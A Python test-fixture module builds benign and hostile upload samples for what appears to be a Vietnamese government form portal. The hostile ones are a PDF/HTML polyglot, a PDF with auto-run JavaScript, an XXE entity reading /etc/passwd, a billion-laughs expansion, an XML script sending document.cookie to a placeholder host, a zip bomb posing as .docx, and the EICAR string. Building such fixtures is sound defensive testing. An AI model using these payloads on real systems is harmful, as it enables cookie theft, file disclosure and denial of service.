"""Sample files for upload tests: well-formed ones, and the hostile shapes an attacker sends
(PDF/HTML polyglot, PDF with JavaScript, XML with an external entity or a script, a zip bomb
dressed as a .docx). Standard library only; every builder returns bytes.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

MB = 1024 * 1024


def minimal_pdf(text: str = "motcua", *, pad: int = 0, catalog_extra: bytes = b"",
                after_header: bytes = b"", trailing: bytes = b"") -> bytes:
    """A one-page PDF with a correct cross-reference table, showing ``text`` (ASCII).

    ``pad`` adds that many bytes in an unused stream (for size tests); ``catalog_extra`` goes
    inside the document catalog (e.g. an ``/OpenAction``); ``after_header`` right after the
    ``%PDF`` line and ``trailing`` after ``%%EOF`` (where polyglots hide their second format).
    """
    safe = text.encode("ascii", "replace").replace(b"(", b"[").replace(b")", b"]")
    content = b"BT /F1 18 Tf 40 100 Td (" + safe + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    if pad:
        objects.append(_stream(b"0" * pad))
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + after_header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n"
            f"%%EOF\n").encode()
    return bytes(out) + trailing


def _stream(data: bytes) -> bytes:
    return b"<< /Length " + str(len(data)).encode() + b" >>\nstream\n" + data + b"\nendstream"


def pdf_html_polyglot() -> bytes:
    """A PDF every reader opens that is also an HTML page with a script (browsers sniff it)."""
    page = b"<html><body><script>fetch('/api/identity/me')</script></body></html>"
    return minimal_pdf("polyglot", after_header=b"%" + page + b"\n", trailing=page)


def pdf_with_javascript() -> bytes:
    """A well-formed PDF that runs JavaScript when opened."""
    return minimal_pdf("js", catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ")


def xml_with_external_entity() -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<!DOCTYPE hoso [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            b"<hoso><ten>&xxe;</ten></hoso>\n")


def xml_with_entity_expansion() -> bytes:
    """A small "billion laughs": internal entities that multiply."""
    lol = b'<!ENTITY a "lollollollollol">' + b"".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(6))
    return b'<?xml version="1.0"?>\n<!DOCTYPE r [' + lol + b"]>\n<r>&g;</r>\n"


def xml_with_script() -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<hoso xmlns:h="http://www.w3.org/1999/xhtml"><ten>An</ten>'
            b"<h:script>document.location='https://example.invalid/?'+document.cookie"
            b"</h:script></hoso>\n")


def minimal_xml() -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            "<hoso><ten>Nguyễn Văn An</ten><ngay>2026-03-02</ngay></hoso>\n").encode()


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>')
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Tờ khai đăng ký khai sinh</w:t></w:r></w:p></w:body>"
    "</w:document>").encode()


def minimal_docx(extra: dict[str, bytes] | None = None) -> bytes:
    """A Word document (Office Open XML) with one paragraph, plus ``extra`` members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", _DOCUMENT)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb_docx(expanded: int = 100 * MB) -> bytes:
    """A valid-looking .docx whose one extra member inflates to ``expanded`` bytes of zeros
    (about a thousandth of that on disk)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", _DOCUMENT)
        with archive.open("word/media/image1.bin", "w", force_zip64=True) as member:
            chunk = b"\0" * MB
            for _ in range(expanded // MB):
                member.write(chunk)
            member.write(b"\0" * (expanded % MB))
    return buffer.getvalue()


def minimal_png(width: int = 4, height: int = 4, *, trailing: bytes = b"") -> bytes:
    """An RGB PNG of the given size (grey pixels); ``trailing`` bytes after IEND."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    raw = b"".join(b"\0" + b"\x80\x80\x80" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw))
            + chunk(b"IEND", b"") + trailing)


EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
